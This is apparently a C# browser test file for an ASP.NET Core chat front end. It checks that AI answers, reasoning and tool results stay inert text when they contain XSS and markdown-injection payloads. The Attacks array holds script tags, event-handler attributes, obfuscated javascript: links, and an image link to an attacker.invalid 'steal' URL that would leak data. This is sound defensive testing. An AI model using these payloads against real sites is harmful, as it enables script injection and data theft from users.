using InferenceProviders.Emulator;

namespace AspNetCoreChat.Tests;

/// <summary>An answer is text, whatever is in it.</summary>
[Collection(BrowserTests.Name)]
public sealed class HostileAnswerTests(OneServer server) : IClassFixture<OneServer>
{
    private const string Model = "openai/gpt-oss-120b";

    private static readonly string[] Attacks =
    [
        "<script>window.hacked = 1</script>",
        "<img src=x onerror=\"window.hacked = 1\">",
        "<svg onload=\"window.hacked = 1\"></svg>",
        "<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>",
        "[click](javascript:window.hacked=1)",
        "[click](JaVaScRiPt&#58;window.hacked=1)",
        "[click](\u0001javascript:window.hacked=1)",
        "[click](java\tscript:window.hacked=1)",
        "[click](data:text/html,<script>parent.hacked=1</script>)",
        "[click](vbscript:msgbox)",
        "<javascript:window.hacked=1>",
        "![x](x\" onerror=\"window.hacked=1)",
        "![picture](https://attacker.invalid/steal?what=secret)",
        "[click](https://attacker.invalid/\" onmouseover=\"window.hacked=1)",
        "[ref]\n\n[ref]: javascript:window.hacked=1",
        "```html\" onmouseover=\"window.hacked=1\n<script>window.hacked = 1</script>\n```",
        "`<img src=x onerror=window.hacked=1>`",
        "| <img src=x onerror=window.hacked=1> |\n|---|\n| <script>window.hacked=1</script> |",
        "&lt;script&gt;window.hacked=1&lt;/script&gt;",
        "<style>body{display:none}</style><base href=\"https://attacker.invalid/\"><meta http-equiv=refresh "
        + "content=\"0;url=https://attacker.invalid\">",
        "<form action=\"https://attacker.invalid\"><input name=q><button>Go</button></form>",
        "<a href=\"javascript:window.hacked=1\">click</a>",
        "# <a onclick=window.hacked=1>title</a>\n\n> <details open ontoggle=window.hacked=1>",
        "- [x] <img src=x onerror=window.hacked=1>\n  1. ***[a](javascript:window.hacked=1)***",
    ];

    [BrowserFact]
    public async Task No_attack_does_anything()
    {
        await using var app = await server.OpenAsync();
        List<string> requests = [];
        app.Page.Request += (_, request) => requests.Add(request.Url);

        foreach (var attack in Attacks)
        {
            app.Emulator.Script.For(model: Model)
                .Answer(new EmulatorAnswer($"Before. {attack}\n\n{attack}\n\nAfter.") { Reasoning = attack }).Once();
            await app.AskToTheEndAsync(attack);
            await Expect(app.Answer.Locator(".markdown")).ToContainTextAsync("After.");
            await CheckAsync(app, attack);
        }

        // Once more, as the page reads them from its storage.
        await app.Page.ReloadAsync();
        await app.ReadyAsync();
        await Expect(app.Page.Locator(".round")).ToHaveCountAsync(Attacks.Length);
        await CheckAsync(app, "all of them, after a reload");
        Assert.All(requests, url => Assert.StartsWith(app.Server.Address.ToString(), url, StringComparison.Ordinal));
        Assert.Empty(app.Problems);
    }

    [BrowserFact]
    public async Task A_tools_result_is_text_too()
    {
        await using var app = await server.OpenAsync();
        await app.OpenPanelAsync("Settings");
        await app.Page.GetByRole(AriaRole.Checkbox, new() { Name = "get_weather" }).CheckAsync();
        app.Emulator.Script.For(model: Model)
            .Answer(
                new EmulatorAnswer { ToolCalls = [
                    new("get_weather", """{"city":"<img src=x onerror=window.hacked=1>"}""")] }).Once();

        await app.AskToTheEndAsync("weather");

        await app.Answer.Locator("details.tool summary").ClickAsync();
        await Expect(app.Answer.GetByLabel("Result of get_weather"))
            .ToContainTextAsync("<img src=x onerror=window.hacked=1>");
        await CheckAsync(app, "a tool's result");
    }

    [BrowserFact]
    public async Task Good_markdown_still_looks_like_it()
    {
        await using var app = await server.OpenAsync();
        app.Emulator.Script.For(model: Model)
            .Text(
                "**bold** [link](https://example.com/a?b=1&c=2) `a < b && c` &amp; AT&T\n\n- [x] done\n\n1. one\n2. "
                + "two\n\n| a |\n|---|\n| b |\n\n~~gone~~").Once();

        await app.AskToTheEndAsync("Markdown, please");

        var shown = app.Answer.Locator(".markdown");
        await Expect(shown.Locator("strong")).ToHaveTextAsync("bold");
        await Expect(shown.GetByRole(AriaRole.Link, new() { Name = "link" }))
            .ToHaveAttributeAsync("href", "https://example.com/a?b=1&c=2");
        await Expect(shown.GetByRole(AriaRole.Link, new() { Name = "link" }))
            .ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
        await Expect(shown.Locator("code")).ToHaveTextAsync("a < b && c");
        await Expect(shown).ToContainTextAsync("& AT&T");
        await Expect(shown.Locator("ol > li")).ToHaveCountAsync(2);
        await Expect(shown.Locator("td")).ToHaveTextAsync("b");
        await Expect(shown.Locator("del")).ToHaveTextAsync("gone");
        await Expect(shown.GetByRole(AriaRole.Checkbox)).ToBeCheckedAsync();
    }

    /// <summary>
    /// Only elements that the renderer makes are there, no attribute is a script, and nothing has run.
    /// </summary>
    private static async Task CheckAsync(PlaygroundPage app, string attack)
    {
        var found = await app.Page.EvaluateAsync<string[]>(
            """
            () => {
              const allowed = new Set(['P', 'H3', 'H4', 'H5', 'H6', 'UL', 'OL', 'LI', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'DIV', 'SPAN', 'A', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE', 'HR', 'BR', 'FIGURE', 'FIGCAPTION', 'BUTTON', 'INPUT', 'svg', 'path']);
              const problems = window.hacked === undefined ? [] : ['it ran'];
              for (const element of document.querySelectorAll('.markdown *, .reasoning-body *, .prompt > p *, .tool-body *')) {
                if (!allowed.has(element.tagName)) problems.push(`<${element.tagName}>`);
                for (const { name, value } of element.attributes) {
                  if (name.startsWith('on') || name === 'style' || name === 'srcdoc') problems.push(`${element.tagName} ${name}`);
                  if (name === 'href' && !/^(https?|mailto):/.test(value)) problems.push(`href ${value}`);
                  if (name === 'src') problems.push(`src ${value}`);
                }
              }
              return problems;
            }
            """);
        Assert.True(found.Length == 0, $"{attack}: {string.Join(", ", found)}");

        // Links that are left lead to the web, and away from this page.
        foreach (var link in await app.Answer.Locator(".markdown a").AllAsync())
        {
            Assert.Equal("_blank", await link.GetAttributeAsync("target"));
        }
    }
}
